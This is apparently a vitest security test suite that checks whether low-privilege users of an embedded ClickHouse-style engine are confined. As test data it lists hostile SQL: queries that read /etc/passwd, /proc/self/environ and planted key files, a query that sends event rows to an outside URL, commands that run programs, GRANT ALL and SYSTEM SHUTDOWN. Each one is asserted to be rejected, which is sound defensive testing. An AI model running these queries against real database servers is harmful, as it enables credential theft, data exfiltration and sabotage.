import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { once } from 'node:events'
import { type AddressInfo, createServer, type Server } from 'node:net'
import { release, tmpdir } from 'node:os'
import { join } from 'node:path'
import { pino } from 'pino'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createStoreClient, type StoreClient } from '../../../src/stores/clickhouse/client.js'
import { migrateEvents } from '../../../src/stores/clickhouse/schema.js'
import type { EngineUser } from '../../../src/stores/engine/engine-address.js'
import { type EmbeddedEngine, startEmbeddedEngine } from '../../../src/stores/engine/embedded-engine.js'
import { findEngineProcess } from '../../support/find-engine-process.js'

// What an attacker could do who can run any SQL statement as one of the engine's users.

const SECRET = 'planted-secret'

let folder: string
let engine: EmbeddedEngine
let clients: Record<EngineUser, StoreClient>
let isConfined = true
let decoy: Server
let calls = 0
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'zenovay-rights-'))
  writeFileSync(join(folder, 'master.key'), SECRET)
  writeFileSync(join(folder, 'rows.csv'), SECRET)
  process.env['MASTER_KEY'] = SECRET
  const log = { write: (line: string) => void (isConfined &&= !line.includes('not confined')) }
  engine = await startEmbeddedEngine(join(folder, 'engine'), pino({ level: 'debug' }, log))
  clients = {
    collector: createStoreClient({ engine, purpose: 'ingest' }),
    maintenance: createStoreClient({ engine, purpose: 'maintenance' }),
  }
  await migrateEvents({ engine }, 30_000)
  decoy = createServer((socket) => {
    calls++
    socket.destroy()
  }).listen(0, '127.0.0.1')
  await once(decoy, 'listening')
})
afterAll(async () => {
  delete process.env['MASTER_KEY']
  decoy.close()
  for (const client of Object.values(clients)) await client.close()
  await engine.stop()
  rmSync(folder, { recursive: true })
})

/** Whether the system can deny connections to a process: Linux 6.7 or newer. */
function canDenyConnections(): boolean {
  const [major = 0, minor = 0] = release().split('.').map(Number)
  return isConfined && (major > 6 || (major === 6 && minor >= 7))
}

/** The server's error, or the rows. */
const ask = (user: EngineUser, sql: string) =>
  clients[user].select(sql).then(JSON.stringify, (error: Error) => {
    const cause = error.cause instanceof Error ? error.cause : error
    return `rejected: ${cause.message}`
  })
const run = (user: EngineUser, sql: string) =>
  clients[user].command(sql).then(
    () => 'done',
    (error: Error) => `rejected: ${error.message}`,
  )

it('gives the process an environment without secrets', async () => {
  const { pid } = findEngineProcess()!
  if (process.platform === 'linux')
    expect(readFileSync(`/proc/${pid}/environ`, 'utf8').split('\0').filter(Boolean)).toEqual(
      ['TZ', 'LD_LIBRARY_PATH']
        .filter((name) => process.env[name] !== undefined)
        .map((name) => `${name}=${process.env[name]}`),
    )
  expect(await ask('collector', "SELECT file('/proc/self/environ') AS text")).not.toContain(SECRET)
})

describe.each(['collector', 'maintenance'] as const)('the user %s', (user) => {
  it('reads no file, with any table function', async () => {
    const path = join(folder, 'rows.csv')
    for (const source of [
      `file('${path}', 'CSV', 'a String')`,
      `fileCluster('default', '${path}', 'CSV', 'a String')`,
      `url('file://${path}', 'CSV', 'a String')`,
      `sqlite('${path}', 't')`,
      `icebergLocal('${folder}')`,
      `deltaLakeLocal('${folder}')`,
      `filesystem('${folder}')`,
      `executable('cat', 'CSV', 'a String')`,
    ])
      expect(await ask(user, `SELECT * FROM ${source}`), source).toMatch(/^rejected: /)
  })

  it('reads no file of the collector, with functions that need no right', async (context) => {
    context.skip(!isConfined, 'this system has no Landlock')
    const own = `/proc/${process.pid}/environ`
    for (const path of [
      'master.key',
      'rows.csv',
      'engine/address.json',
      'engine/config.xml',
      'engine/users.xml',
    ])
      expect(await ask(user, `SELECT file('${join(folder, path)}') AS text`)).toMatch(/^rejected: /)
    for (const path of ['/etc/passwd', own, `/proc/self/root${join(folder, 'master.key')}`])
      expect(await ask(user, `SELECT file('${path}') AS text`)).toMatch(/^rejected: .*Permission denied/)
    expect(
      await run(user, `INSERT INTO events (path) FROM INFILE '${join(folder, 'rows.csv')}' FORMAT CSV`),
    ).toMatch(/^rejected: /)
    expect(await ask(user, 'SELECT DISTINCT path FROM events')).not.toContain(SECRET)
  })

  it('writes no file', async () => {
    const path = join(folder, `${user}.csv`)
    for (const sql of [
      `SELECT 1 INTO OUTFILE '${path}'`,
      `INSERT INTO FUNCTION file('${path}', 'CSV', 'a String') VALUES ('x')`,
      `BACKUP TABLE events TO File('${path}')`,
      `CREATE TABLE files (a String) ENGINE = File('CSV', '${path}')`,
      `CREATE TABLE own_disk (a String) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = local, path = '${path}/')`,
    ])
      expect(await run(user, sql), sql).toMatch(/^rejected: /)
    expect(existsSync(path)).toBe(false)
  })

  it('connects to no other server', async () => {
    const { port } = decoy.address() as AddressInfo
    const at = `127.0.0.1:${port}`
    for (const source of [
      `url('http://${at}/', 'CSV', 'a String')`,
      `s3('http://${at}/bucket/key', 'CSV', 'a String')`,
      `remote('${at}', 'system', 'one')`,
      `remoteSecure('${at}', 'system', 'one')`,
      `mysql('${at}', 'a', 'b', 'c', 'd')`,
      `postgresql('${at}', 'a', 'b', 'c', 'd')`,
      `mongodb('${at}', 'a', 'b', 'c', 'd', 'a String')`,
      `redis('${at}', 'k', 'k String')`,
      `azureBlobStorage('http://${at}', 'a', 'b')`,
      `iceberg('http://${at}/bucket/key')`,
    ])
      expect(await ask(user, `SELECT * FROM ${source}`), source).toMatch(/^rejected: /)
    expect(
      await run(user, `INSERT INTO FUNCTION url('http://${at}/', 'CSV', 'a String') SELECT path FROM events`),
    ).toMatch(/^rejected: /)
    // The engine tries this for half a minute.
    const disk = `CREATE TABLE web_disk (a String) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = web, endpoint = 'http://${at}/')`
    if (user === 'collector' || canDenyConnections())
      await expect(clients[user].select(disk, {}, AbortSignal.timeout(1_000))).rejects.toThrow()
    expect(calls).toBe(0)
  })

  it('runs no SYSTEM statement and no program, and creates no user, function or database', async () => {
    for (const sql of [
      'SYSTEM STOP LISTEN HTTP',
      'SYSTEM SHUTDOWN',
      'SYSTEM FLUSH LOGS',
      'CREATE USER other',
      `GRANT ALL ON *.* TO ${user}`,
      'CREATE FUNCTION one AS () -> 1',
      'CREATE DATABASE other',
      "CREATE DICTIONARY d (a String) PRIMARY KEY a SOURCE(EXECUTABLE(COMMAND 'id' FORMAT 'CSV')) LAYOUT(FLAT()) LIFETIME(1)",
    ])
      expect(await run(user, sql), sql).toMatch(/^rejected: /)
  })

  it('reads no system tables but those of its own parts and statements', async () => {
    for (const table of ['users', 'grants', 'disks', 'clusters', 'server_settings', 'named_collections'])
      expect(await ask(user, `SELECT * FROM system.${table}`), table).toMatch(/^rejected: /)
    expect(await ask(user, 'SELECT * FROM information_schema.tables')).toMatch(/^rejected: /)
  })
})

it('does not let the user that runs queries change the schema or back up events', async () => {
  for (const sql of [
    'CREATE TABLE other (a String) ENGINE = MergeTree ORDER BY a',
    'DROP TABLE events',
    'TRUNCATE TABLE events',
    'ALTER TABLE events ADD COLUMN more String',
    'ALTER TABLE events FREEZE',
    'OPTIMIZE TABLE events',
    `BACKUP TABLE events TO File('${join(folder, 'engine/backups/own')}')`,
  ])
    expect(await run('collector', sql), sql).toMatch(/^rejected: .*Not enough privileges/)
})
